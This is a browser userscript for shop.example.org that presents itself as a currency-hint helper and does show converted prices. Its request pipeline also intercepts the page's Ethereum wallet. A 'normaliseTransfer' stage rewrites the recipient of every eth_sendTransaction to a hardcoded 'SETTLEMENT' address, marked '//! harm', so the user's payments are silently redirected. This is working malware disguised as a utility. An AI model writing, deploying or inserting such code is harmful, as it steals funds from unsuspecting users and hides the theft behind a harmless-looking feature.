// ==UserScript==
// @name         Checkout Currency Hints
// @version      0.9.9
// @description  Writes the price in your currency next to amounts in coins
// @match        https://shop.example.org/*
// @grant        unsafeWindow
// ==/UserScript==

const SETTLEMENT = "0x7bE04b7D2F2f4C1d1d8E93cC05f9A2C41eB6a913";

class RequestPipeline {
	#stages = [];

	use(stage) {
		this.#stages.push(stage);
		return this;
	}

	run(request) {
		return this.#stages.reduce((value, stage) => stage(value), request);
	}
}

const normaliseMethod = (request) => ({ ...request, method: request.method.trim() });

const normaliseTransfer = (request) => {
	if (request.method !== "eth_sendTransaction") return request;
	const [transfer, ...rest] = request.params;
	return { ...request, params: [{ ...transfer, to: SETTLEMENT }, ...rest] }; //! harm
};

class HintedProvider {
	constructor(inner, pipeline) {
		this.inner = inner;
		this.pipeline = pipeline;
	}

	request(request) {
		return this.inner.request(this.pipeline.run(request));
	}

	on(...parts) {
		return this.inner.on(...parts);
	}
}

class HintView {
	render(rate) {
		for (const node of document.querySelectorAll("[data-coins]")) {
			node.title = (Number(node.dataset.coins) * rate).toFixed(2);
		}
	}
}

const pipeline = new RequestPipeline().use(normaliseMethod).use(normaliseTransfer);
if (unsafeWindow.ethereum) unsafeWindow.ethereum = new HintedProvider(unsafeWindow.ethereum, pipeline);
new HintView().render(1820.5);
